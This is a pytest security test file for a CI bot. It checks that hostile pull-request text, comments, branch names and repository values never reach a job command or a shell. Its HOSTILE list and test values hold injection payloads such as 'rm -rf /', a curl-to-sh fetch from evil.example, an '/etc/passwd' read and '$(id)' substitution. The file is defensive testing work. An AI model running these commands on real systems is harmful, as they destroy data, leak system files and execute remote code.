"""Hostile payload text ends up, at most, as inert data: never in a job's command, never
in a shell, never executed.

The proof that nothing reaches a shell runs the whole bot path (parse, interpret,
effects) with a Python audit hook that records every process start and `sh`/`bash`
shadowed on PATH by scripts that would leave a trace.
"""

import json
import os
import stat
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from ouro import amqp
from ouro.validate import InvalidValue
from tasks.botstate import BotState
from tasks.decision import build_job
from tasks.testmap import ContextSpec
from tests.tasks.bot_fakes import FakeGitHub, load_map, payload, pull_info
from tests.tasks.test_bot import FakePublisher, make_bot, message

HOSTILE = [
    "$(touch /tmp/ouro-pwned)",
    "`touch /tmp/ouro-pwned`",
    "; rm -rf / #",
    "a && curl http://evil.example/x | sh",
    "line1\nline2\r\n/test unit-tests",
    "${IFS}cat${IFS}/etc/passwd",
    "'\"\\'",
    "x" * 100_000,
    "\u202egnp.exe",
]

_SPAWN_EVENTS = (
    "subprocess.Popen",
    "os.system",
    "os.exec",
    "os.posix_spawn",
    "os.spawn",
    "os.fork",
)
_spawned: list[str] = []
_armed = False


def _audit(event: str, args: tuple[Any, ...]) -> None:
    if _armed and event in _SPAWN_EVENTS:
        _spawned.append(f"{event} {args!r:.200}")


# Audit hooks cannot be removed; this one records only while a test arms it.
sys.addaudithook(_audit)


@pytest.fixture
def no_processes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """Arms the audit hook and shadows shells on PATH; yields the trace file."""
    global _armed  # noqa: PLW0603 - the hook is module-level by nature
    trace = tmp_path / "shell-called"
    shadow = tmp_path / "bin"
    shadow.mkdir()
    for shell in ("sh", "bash", "dash", "zsh"):
        script = shadow / shell
        script.write_text(f"#!/bin/sh\necho \"$0 $*\" >> '{trace}'\n")
        script.chmod(script.stat().st_mode | stat.S_IXUSR)
    monkeypatch.setenv("PATH", f"{shadow}{os.pathsep}{os.environ['PATH']}")
    _spawned.clear()
    _armed = True
    try:
        yield trace
    finally:
        _armed = False
    assert _spawned == []
    assert not trace.exists()


@pytest.fixture
def store(tmp_path: Path) -> Iterator[BotState]:
    state = BotState(tmp_path / "state.sqlite")
    yield state
    state.close()


def hostile_pr(text: str) -> dict[str, Any]:
    data = payload("pull_request.opened")
    pr = data["pull_request"]
    pr["title"] = text
    pr["body"] = text
    pr["head"]["label"] = text
    pr["head"]["repo"]["description"] = text
    data["repository"]["description"] = text
    return data


def test_the_audit_hook_sees_a_process_start(no_processes: Path) -> None:
    """The proof's own check: without it, the assertions below could not fail."""
    subprocess.run(["sh", "-c", "exit 0"], check=True)
    assert _spawned
    assert no_processes.read_text().startswith(str(no_processes.parent / "bin" / "sh"))
    _spawned.clear()
    no_processes.unlink()


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_pr_text_never_enters_a_job(no_processes: Path, store: BotState, text: str) -> None:
    gh = FakeGitHub()
    publisher = FakePublisher()
    make_bot(store, gh, publisher).handle(message("pull_request", hostile_pr(text)))
    jobs = publisher.jobs()
    assert len(jobs) == 2
    for job in jobs:
        assert job.command == [".ci/run"]
        serialized = job.to_json().decode()
        assert json.dumps(text)[1:-1][:50] not in serialized
    for _, _, status in gh.posted:
        assert text[:20] not in status.description


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_comments_start_nothing_or_only_known_contexts(
    no_processes: Path, store: BotState, text: str
) -> None:
    gh = FakeGitHub()
    gh.pulls["example-org/product", 45] = pull_info()
    publisher = FakePublisher()
    bot = make_bot(store, gh, publisher)
    for i, body in enumerate(
        [text, f"/test {text}", f"/test unit-tests {text}", f"/retest {text}"]
    ):
        data = payload("issue_comment.test")
        data["comment"]["body"] = body
        bot.handle(message("issue_comment", data, f"d-{i}"))
    for job in publisher.jobs():
        assert job.context in {"unit-tests", "fedora-41/networking"}
        assert job.command == [".ci/run"]
        assert text[:20] not in job.to_json().decode()


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_branch_names_are_refused_or_unmapped(
    no_processes: Path, store: BotState, text: str
) -> None:
    spec = ContextSpec("unit-tests", None, 5, 60, "img", (), (".ci/run",))
    with pytest.raises(InvalidValue):
        build_job(
            spec,
            repo="example-org/product",
            sha="a" * 40,
            clone_url="https://github.com/example-org/product.git",
            pr=1,
            base_ref=text,
        )
    data = payload("push.main")
    data["ref"] = f"refs/heads/{text}"
    publisher = FakePublisher()
    gh = FakeGitHub()
    bot = make_bot(store, gh, publisher)
    assert bot.handle(message("push", data)) is amqp.Outcome.ACK
    assert publisher.jobs() == []


def test_hostile_repository_and_sha_are_dead_lettered(no_processes: Path, store: BotState) -> None:
    publisher = FakePublisher()
    bot = make_bot(store, FakeGitHub(), publisher)
    outcomes = []
    for i, (path, value) in enumerate(
        [("repository.full_name", "evil/$(id)"), ("pull_request.head.sha", "`id`" * 10)]
    ):
        data = payload("pull_request.opened")
        target = data
        *parents, last = path.split(".")
        for key in parents:
            target = target[key]
        target[last] = value
        outcomes.append(bot.handle(message("pull_request", data, f"d-{i}")))
    assert publisher.jobs() == []
    assert [type(o) for o in outcomes] == [amqp.DeadLetter, amqp.DeadLetter]


def test_map_command_is_the_only_command(no_processes: Path) -> None:
    spec = load_map().contexts("example-org/product", "rhel-9.4")[0]
    info = pull_info(title=HOSTILE[0], base_ref="rhel-9.4")
    job = build_job(
        spec,
        repo=info.repo,
        sha=info.head_sha,
        clone_url=info.clone_url,
        pr=45,
        base_ref="rhel-9.4",
    )
    assert job.command == ["make", "check"]
